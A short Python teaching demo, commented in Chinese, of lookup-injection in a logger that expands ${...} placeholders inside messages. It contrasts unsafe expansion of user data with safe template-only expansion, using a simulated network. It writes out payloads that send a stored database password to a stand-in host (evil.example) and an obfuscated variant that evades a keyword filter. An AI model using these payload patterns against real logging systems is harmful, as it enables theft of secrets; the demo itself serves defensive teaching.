"""一个会在“消息里”展开占位符的日志器，和一个只展开模板的日志器。"""
import re

SECRETS = {"DB_PASSWORD": "hunter2"}
OUTSIDE = []          # 代替网络：记录日志器试图访问的地址


def lookup(expr):
    name, _, rest = expr.partition(":")
    if name == "env":
        return SECRETS.get(rest, "")
    if name == "lower":
        return rest.lower()
    if name == "fetch":
        OUTSIDE.append(rest)
        return "<远端返回的内容>"
    return "${" + expr + "}"


INNER = re.compile(r"\$\{([^${}]*)\}")


def expand(text):
    while True:
        new = INNER.sub(lambda m: lookup(m.group(1)), text)
        if new == text:
            return text
        text = new


def risky(template, *args):
    return expand(template.format(*args))          # 先拼接，再解释


def safe(template, *args):
    return expand(template).format(*args)          # 先解释模板，再填数据


attack = "${fetch:ldap://evil.example/${env:DB_PASSWORD}}"
print("危险：", risky("登录失败，用户名{}", attack))
print("  被访问的地址：", OUTSIDE)
OUTSIDE.clear()
print("安全：", safe("登录失败，用户名{}", attack))
print("  被访问的地址：", OUTSIDE)

disguised = "${${lower:F}etch:ldap://evil.example/x}"
print("\n按关键字过滤'${fetch:'能拦住变形吗：", "${fetch:" in disguised)
risky("{}", disguised)
print("  变形之后被访问的地址：", OUTSIDE)
